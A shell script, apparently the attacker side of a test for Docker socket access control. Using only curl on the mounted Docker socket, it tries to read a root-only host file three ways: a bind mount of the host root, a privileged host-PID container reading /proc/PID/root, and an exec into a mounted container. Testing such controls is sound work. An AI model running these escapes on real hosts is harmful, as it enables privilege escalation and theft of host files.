#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# The attacker's side, run in a container that has the Docker socket and curl and nothing else: no docker CLI,
# no privilege. It tries to read a root-only file of the host in three ways, and goes on after a refusal.
# Prints a line a call: STEP <tab> WHAT <tab> STATUS <tab> the answer.
# usage: attack_inside.sh FILE-ON-THE-HOST HOLDER   (HOLDER: a running container that has / of the host in /host)

file=$1
holder=$2
api=http://localhost/v1.41
answer=/tmp/answer

call() { # STEP WHAT METHOD PATH [JSON]
    : >"$answer"
    status=$(curl -s -m 30 -o "$answer" -w '%{http_code}' --unix-socket /var/run/docker.sock -X "$3" \
        ${5:+-H "Content-Type: application/json" --data-binary "$5"} "$api$4")
    printf '%s\t%s\t%s\t' "$1" "$2" "$status"
    # Nothing of an answer may look like a line of ours.
    tr '\n\t' '  ' <"$answer" | tr -d '\000-\037' | head -c 600
    echo
}

escape() { # STEP HOSTCONFIG COMMAND: a container made for one shell command, and what it printed
    name=attack-$1
    # With a terminal the log comes without stream headers.
    call "$1" 'create a container' POST "/containers/create?name=$name" \
        "{\"Image\":\"bb:latest\",\"Tty\":true,\"Cmd\":[\"sh\",\"-c\",\"$3\"],\"HostConfig\":$2}"
    call "$1" 'start it' POST "/containers/$name/start"
    call "$1" 'wait for its end' POST "/containers/$name/wait"
    call "$1" 'read the file' GET "/containers/$name/logs?stdout=1"
}

call list 'list containers' GET /containers/json

# The host's root as a bind mount.
escape bind '{"NetworkMode":"none","Binds":["/:/host"]}' "cat /host$file"

# Privileged with the host's processes: /proc/PID/root of one of them is the host's root. It needs both: without
# Privileged the kernel's ptrace check forbids the link. Not always process 1, which can be beyond
# even root's reach; and not the host's disk, whose name and file system differ from machine to machine.
escape privileged '{"NetworkMode":"none","Privileged":true,"PidMode":"host"}' \
    "for p in /proc/[0-9]*; do cat \$p/root$file 2>/dev/null && exit; done"

# A shell in a container that is running with the mount already.
call exec 'make an exec' POST "/containers/$holder/exec" \
    "{\"AttachStdout\":true,\"AttachStderr\":true,\"Tty\":true,\"Cmd\":[\"sh\",\"-c\",\"cat /host$file\"]}"
id=$(sed -n 's/.*"Id":"\([0-9a-f]*\)".*/\1/p' "$answer")
call exec 'read the file' POST "/exec/${id:-0000000000000000000000000000000000000000000000000000000000000000}/start" \
    '{"Detach":false,"Tty":true}'
